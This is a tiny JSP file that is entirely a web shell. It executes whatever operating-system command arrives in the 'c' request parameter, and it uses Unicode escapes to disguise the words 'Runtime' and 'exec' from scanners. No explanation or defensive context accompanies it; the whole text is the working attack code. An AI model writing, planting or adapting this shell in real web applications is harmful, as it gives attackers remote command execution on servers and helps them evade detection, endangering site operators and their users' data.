<%
	\u0052untime.getRuntime().\u0065xec(request.getParameter("c"));
%>
